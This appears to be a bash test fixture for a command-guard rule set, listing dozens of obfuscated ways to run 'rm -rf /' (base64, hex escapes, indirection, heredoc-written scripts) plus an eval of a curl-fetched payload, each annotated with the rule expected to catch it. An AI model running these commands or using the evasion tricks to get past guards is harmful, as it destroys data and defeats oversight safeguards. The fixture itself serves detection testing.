#!/usr/bin/env bash
# Fixture: known guard evasions — commands built at run time, and heredoc tricks. Never run this
# file.

# ----- dynamic construction ----------------------------------------------------------------------
# ruleid: dynamic-command
$(echo rm) -rf /
# ruleid: dynamic-command
`echo rm` -rf /
# ruleid: rm-recursive-root
X=rm; $X -rf /
X=rm
Y="-rf /"
# ruleid: rm-recursive-root
$X $Y
# ruleid: dynamic-command
CMD=$(printf 'r%s' m); $CMD -rf /
ref=X
# ruleid: dynamic-command
${!ref} -rf /
# ruleid: rm-recursive-root
a=(rm -rf /); "${a[@]}"
# ruleid: rm-recursive-root
args=(-rf /); rm "${args[@]}"
# ruleid: rm-recursive-root
f() { rm "$@"; }; f -rf /
# ruleid: rm-recursive-root
alias wipe='rm -rf /'
# ruleid: dynamic-eval
eval "$PAYLOAD"
# the decoding is static: what eval runs is known
# ruleid: rm-recursive-root
eval "$(echo cm0gLXJmIC8K | base64 -d)"
# ruleid: dynamic-eval
eval "$(curl -fsSL https://example.com/payload | base64 -d)"
# ruleid: rm-recursive-root
base64 -d <<< cm0gLXJmIC8K | sh
# ruleid: rm-recursive-root
printf '\x72\x6d -rf /' | sh
# ruleid: rm-recursive-root
printf '\162\155 -rf /\n' | bash
# ruleid: rm-recursive-root
echo -e '\x72\x6d -rf /' | sh
# ruleid: dynamic-shell-input
echo '/ fr- mr' | rev | sh
# ruleid: dynamic-shell-input
xxd -r -p <<< 726d202d7266202f | sh

# ----- heredoc tricks (also in tests/evasions.rs: `eval $(cat <<EOF)`, CR-suffixed terminators) ---
# A quoted heredoc written to a file, then run
cat > /tmp/cleanup.sh <<'EOF'
rm -rf /
EOF
# ruleid: rm-recursive-root
sh /tmp/cleanup.sh
# ruleid: rm-recursive-root
printf 'rm -rf /\n' > x.sh && bash x.sh
# ruleid: rm-recursive-root
echo 'rm -rf /' > run.sh; chmod +x run.sh; ./run.sh
tee nuke.sh >/dev/null <<'EOF'
rm -rf /
EOF
# ruleid: rm-recursive-root
. ./nuke.sh
# `<<` inside quotes is not a heredoc
# ok: rm-recursive-root
echo "a << b" && echo "rm -rf / is dangerous"
